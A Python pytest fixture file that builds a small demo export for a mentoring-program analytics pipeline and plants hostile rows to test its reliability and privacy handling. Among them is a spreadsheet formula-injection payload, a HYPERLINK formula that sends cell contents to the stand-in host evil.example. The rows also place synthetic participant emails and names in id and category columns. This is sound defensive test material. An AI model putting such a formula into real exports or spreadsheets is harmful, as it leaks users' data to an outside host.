"""A small generated program and one uninterrupted CLI run of it: the reference results."""

from __future__ import annotations

from pathlib import Path

import pytest

from models.demo.generator import generate

from .cli import AS_OF, Workspace

SCALE = 0.1  # about 200 matches: every stage does real work, a run takes ~20 s on 2 cores


# Hostile values planted next to the demo's files (named to sort first, so the reports
# pick them as examples): a participant's email typed into an id
# column, a participant's name typed into a category, a formula as a survey answer.
PLANTED_EMAIL = "p0000001@example.org"
PLANTED_NAME = "Participant P0000002"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
# Column -> another participant's name or email typed there (participants.csv holds them all).
TYPED = {
    "age_band": "p0000005@example.org",
    "career_level": "Participant P0000004",
    "department": "Participant P0000006",
    "survey": "Participant P0000009",
    "item_id": "p0000010@example.org",
    "closure_reason": "Participant P0000011",
    "channel": "p0000012@example.org",
    "measure": "p0000007@example.org",
}


def _plant(export: Path) -> None:
    header = "meeting_id,match_id,started_at,duration_min,mode,initiated_by,agenda_shared,"
    header += "questions_prepared,status"
    rows = [
        f"MTX0000001,{PLANTED_EMAIL},2025-05-30 10:30:00,40,video,mentor,0,1,held",
        f"MTX0000002,M0000001,2025-05-31 10:30:00,40,{PLANTED_NAME},mentor,0,1,held",
    ]
    (export / "meetings_000_planted.csv").write_text("\n".join([header, *rows]) + "\n")
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    (export / "survey_responses_000_planted.csv").write_text(
        "response_id,participant_id,survey,submitted_at,item_id,value\n"
        f"RX0000001,P0000003,intake,2025-01-24 17:47:00,mfq_1,{quoted}\n"
        f"RX0000002,P0000003,{TYPED['survey']},2025-02-01 10:00:00,{TYPED['item_id']},3\n"
    )
    # Other participants' names and emails typed into every free-text column of every table.
    (export / "participants_000_planted.csv").write_text(
        "participant_id,program_id,role,enrolled_on,gender,race_ethnicity,age_band,"
        "career_level,department,first_generation,wants_same_gender_mentor,"
        "wants_same_race_mentor,name,email\n"
        f"PX0000001,PRG001,mentee,2025-01-02,woman,white,{TYPED['age_band']},"
        f"{TYPED['career_level']},{TYPED['department']},0,,,Planted Mentee,px1@planted.example\n"
    )
    (export / "matches_000_planted.csv").write_text(
        "match_id,program_id,mentor_id,mentee_id,matched_on,requested_on,ended_on,"
        "match_source,closure_reason\n"
        f"MX0000001,PRG001,P0000001,PX0000001,2025-01-10,,2025-03-01,assigned,"
        f"{TYPED['closure_reason']}\n"
    )
    (export / "activities_000_planted.csv").write_text(
        "activity_id,match_id,occurred_at,kind,from_role,channel\n"
        f"AX0000001,MX0000001,2025-01-20 10:00:00,thank_you,mentee,{TYPED['channel']}\n"
    )
    (export / "outcomes_000_planted.csv").write_text(
        f"participant_id,measure,value,observed_on\nPX0000001,{TYPED['measure']},1,2025-06-01\n"
    )


@pytest.fixture(scope="session")
def small_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    export = tmp_path_factory.mktemp("reliability") / "export"
    generate(export, seed=5, scale=SCALE, as_of=AS_OF, bad_rows=True)
    _plant(export)
    return export


@pytest.fixture(scope="session")
def reference(tmp_path_factory: pytest.TempPathFactory, small_export) -> Workspace:
    """The same export run once, start to end, without interference."""
    ws = Workspace(tmp_path_factory.mktemp("reference"), small_export)
    done = ws.run()
    assert done.returncode == 0, done.stderr
    return ws
